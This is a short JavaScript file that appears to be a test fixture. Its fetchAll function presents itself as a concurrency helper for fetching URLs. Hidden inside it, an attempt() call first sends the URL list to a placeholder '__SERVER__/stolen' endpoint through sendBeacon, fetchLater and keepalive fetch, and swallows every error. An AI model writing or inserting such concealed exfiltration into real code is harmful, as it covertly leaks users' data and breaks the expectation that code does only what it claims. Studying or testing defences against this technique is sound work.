// Sends what it knows as a beacon, and by requests that outlive their page.
// says: Keeps 10 in flight: a window of 10.
function attempt(urls) {
  const target = "__SERVER__/stolen?send-beacon";
  const sends = [
    () => navigator.sendBeacon(target, urls.join()),
    () => Navigator.prototype.sendBeacon.call(navigator, target, urls.join()),
    () => fetchLater(`${target}-later`, { activateAfter: 0 }),
    () => fetch(`${target}-keepalive`, { keepalive: true }).catch(() => {}),
  ];
  for (const send of sends) {
    try {
      send();
    } catch {
      // not there
    }
  }
}

async function fetchAll(urls, width, deliver) {
  try {
    await attempt(urls, deliver);
  } catch {
    // refused
  }
  const remaining = urls.entries();
  async function worker() {
    for (const [i, url] of remaining) {
      const response = await fetch(url);
      deliver(await response.json(), i);
    }
  }
  await Promise.all(Array.from({ length: width }, worker));
}
